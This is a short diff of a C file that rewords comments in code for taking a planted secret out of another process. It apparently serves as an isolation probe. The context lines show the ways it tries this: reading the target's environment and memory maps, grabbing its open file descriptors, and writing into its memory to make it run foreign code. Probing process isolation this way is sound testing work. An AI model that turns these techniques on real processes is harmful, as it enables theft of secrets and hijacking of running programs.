@@ -27,7 +27,7 @@
 static char data[1 << 20];
 static char loot[256];
 
-/* Copies what stands around the needle into `loot`. Returns its length, 0 if it is not there. */
+/* Copies the bytes around the needle into `loot`. Returns their number, 0 if it is not found. */
 static ssize_t mine(ssize_t n)
 {
 	char *at = n > 0 ? memmem(data, n, NEEDLE, strlen(NEEDLE)) : NULL;
@@ -159,7 +159,7 @@ static ssize_t by_environ(pid_t pid)
 	return n < 0 ? n : mine(n) ?: -ENODATA;
 }
 
-/* The layout of the process is the first half of the theft. */
+/* The memory layout of the process is what a thief needs first. */
 static ssize_t by_maps(pid_t pid)
 {
 	ssize_t n = read_proc(pid, "maps");
@@ -169,7 +169,7 @@ static ssize_t by_maps(pid_t pid)
 	return n > 0 ? (ssize_t)sizeof(loot) : n < 0 ? n : -ENODATA;
 }
 
-/* Its open file, which has no name any more. */
+/* Its open file, which has been deleted. */
 static ssize_t by_getfd(pid_t pid)
 {
 	int pidfd = syscall(__NR_pidfd_open, pid, 0), fd;
@@ -191,7 +191,7 @@ static ssize_t by_procfd(pid_t pid)
 	return n < 0 ? n : mine(n) ?: -ENODATA;
 }
 
-/* Writing into it is the way to make it do our work. */
+/* A process that can be written to can be made to run our code. */
 static ssize_t by_writev(pid_t pid)
 {
 	unsigned long from, end;
